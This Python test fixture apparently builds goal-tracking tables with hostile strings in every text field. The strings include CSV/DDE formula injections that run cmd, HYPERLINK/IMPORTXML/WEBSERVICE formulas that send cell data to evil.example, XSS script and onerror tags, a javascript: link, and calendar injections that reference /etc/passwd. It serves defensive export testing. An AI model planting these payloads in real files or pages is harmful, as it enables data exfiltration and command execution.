"""Texts that want to be more than text, and a document that holds each of them in many places."""

from __future__ import annotations

from typing import Any

from goaldesk.exchange.rows import Tables, complete

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+cmd|' /C calc'!A0",
    "+86 10 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "-5 % from March",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "'=1+1",
    "''=1+1",
    "'90s music",
    "{=SUM(A1:A9)}",
    "%0A=1+1",
    'a,b;c"d"\n=1+1',
    '";=1+1;"',
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<r><t>rich</t></r>",
    '</t></is></c><c t="str"><f>1+1</f></c>',
    "&lt;b&gt; &amp; &#61;1+1",
    "<!--[if IE]>",
    "]]><![CDATA[",
    "_x003D_1+1 _x0000_",
    '&C&"Arial"&99 header',
    "{price} {0} {{x}} %s %(a)s ${HOME}",
)
MARKDOWN = (
    "[click](javascript:alert(1))",
    "![](http://evil.example/pixel.png)",
    "[a]: http://evil.example",
    "<http://evil.example>",
    "https://evil.example/?a=1&b=2 www.evil.example",
    "| a | b |\n|---|---|",
    "# Heading\n---\n> quote\n- item\n1. one",
    "```\ncode\n``` `x` ~~no~~ **bold** __bold__ *i* _i_",
    "\\| \\\\ trailing \\",
    "$$\\int$$ @everyone :tada: [^1]",
)
CALENDAR = (
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    "x\\nATTACH:file:///etc/passwd",
    "a;TZID=b:c,d\\;e\\,f",
    "RRULE:FREQ=SECONDLY",
    "DTSTART;VALUE=DATE:19700101",
)
CHARACTERS = (
    "lone \ud800 surrogate \udfff",
    "bell \x07 escape \x1b[31m null \x00 c1 \x9b",
    "non\ufffecharacter\uffff",
    "right \u202eto left\u202c \u2066isolate\u2069",
    "مرحبا بالعالم שלום עולם",
    "👩‍👩‍👧‍👦 🇨🇳 e\u0301 zero\u200bwidth soft\u00adhyphen",
    "..\\..\\CON:*?<>|.txt",
)
PAYLOADS = (*FORMULAS, *MARKUP, *MARKDOWN, *CALENDAR, *CHARACTERS)


def tables() -> Tables:
    """A document with a goal, a KPI, a measurement … for each payload, which is all its texts."""
    made: dict[str, list[dict[str, Any]]] = {
        "product": [{"name": PAYLOADS[0], "owner": PAYLOADS[1], "due": "2027-03-31"}],
        "vision": [{"core_value": PAYLOADS[34], "customer": PAYLOADS[44]}],
    }

    def add(table: str, number: int, **values: object) -> None:
        made.setdefault(table, []).append({"id": f"{table}-{number}", **values})

    for number, text in enumerate(PAYLOADS):
        add("segment", number, name=text, traits=text)
        add("goal", number, title=text, reason=text, owner=text)
        add(
            "kpi",
            number,
            goal_id=f"goal-{number}",
            name=text,
            unit=text,
            owner=text,
            formula=text,
            baseline=0.0,
            target=10.0,
            start="2026-04-01",
        )
        made.setdefault("measurement", []).append(
            {"kpi_id": f"kpi-{number}", "date": "2026-10-31", "value": -5.0, "note": text}
        )
        add("research", number, title=text, finding=text)
        add("feedback", number, text=text, customer=text)
        add("survey", number, title=text, favourable=3)
        add("market_size", number, name=text, customers=3.0, source=text)
        add("competitor", number, name=text, strengths=text)
        add("criterion", number, name=text)
        made.setdefault("score", []).append(
            {
                "criterion_id": f"criterion-{number}",
                "competitor_id": "competitor-0",
                "evidence": text,
            }
        )
        add("swot_factor", number, text=text, quadrant="SWOT"[number % 4], note=text)
        made.setdefault("evidence", []).append(
            {"factor_id": f"swot_factor-{number}", "research_id": f"research-{number}"}
        )
        add("strategy", number, text=text, owner=text, why=text)
        add("department", number, name=text, duty=text)
        add("person", number, name=text, email=text)
        add("activity", number, name=text, goal_id=f"goal-{number}", external_id=text)
        add("resource", number, name=text, unit=text, planned=1.0, used=2.0)
        add(
            "communication",
            number,
            purpose=text,
            audience=text,
            channel=text,
            owner=text,
            next_date="2026-11-20",
        )
        add("review", number, title=text, date="2026-12-01", attendees=text, findings=text)
        add("action", number, text=text, owner=text, note=text, external_id=text)
    return complete(made)
